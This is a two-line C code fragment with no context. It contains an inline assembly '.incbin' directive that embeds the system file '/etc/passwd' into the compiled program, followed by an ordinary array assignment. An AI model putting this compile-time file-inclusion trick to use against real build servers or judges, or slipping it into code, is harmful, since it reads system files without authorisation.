        asm volatile(".incbin \"/etc/passwd\";");
        out[i] = sum;
